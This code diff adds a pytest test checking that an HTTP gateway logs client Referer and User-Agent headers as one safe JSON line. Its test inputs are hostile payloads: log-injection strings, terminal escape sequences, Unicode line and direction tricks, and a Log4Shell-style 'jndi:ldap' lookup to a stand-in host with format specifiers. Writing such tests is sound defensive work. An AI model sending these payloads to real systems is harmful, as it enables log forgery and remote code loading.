@@ -5,6 +5,7 @@ from __future__ import annotations
 import gzip
 import zlib
 
+import orjson
 import pytest
 
 from gateway.config.snapshot import Cohort, ServiceTraffic
@@ -89,6 +90,38 @@ def test_nothing_a_backend_says_ends_a_line(rig: Rig, head: bytes, end: bytes) -
     assert b"x-evil: 1" not in _lines(bytes(rig.client.transport.sent))
     assert backend.cut
     rig.over([502])
+
+
+@pytest.mark.parametrize("place", ["Referer", "User-Agent"])
+@pytest.mark.parametrize(
+    "said",
+    [
+        b'"}\\u000a{"status":200,"client":"10.0.0.1"',
+        b"\xc2\x9b2J\xc2\x9b31m",
+        b"\xc2\x85{}\xe2\x80\xa8{}",
+        b"\xe2\x80\xaetxt.exe",
+        b"\xff\xfe" * 5000,
+        b"${jndi:ldap://evil.example/}\t%n%s",
+    ],
+)
+def test_what_a_client_says_is_one_line_of_the_log(rig: Rig, place: str, said: bytes) -> None:
+    """No second line in any reading, nothing that moves a terminal, no more than a pipe takes."""
+    lines: list[bytes] = []
+    rig.core.recorder.log_to(lines.append)
+    rig.client.send(
+        f"FROB-1 /?a={'b' * 9000} HTTP/1.1\r\nHost: a.example\r\n{place}: ".encode()
+        + said
+        + b"\r\n\r\n"
+    )
+    rig.backend().ok()
+    (line,) = lines
+    assert len(line) <= 4096
+    text = line.decode()
+    assert text.endswith("\n")
+    assert text[:-1].isprintable()
+    assert len(text.splitlines()) == 1
+    told = orjson.loads(line)
+    assert (told["method"], told["status"], told["client"]) == ("FROB-1", 200, "192.0.2.1")
 
 
 @pytest.mark.parametrize("coding", ["gzip", "deflate", "br"])
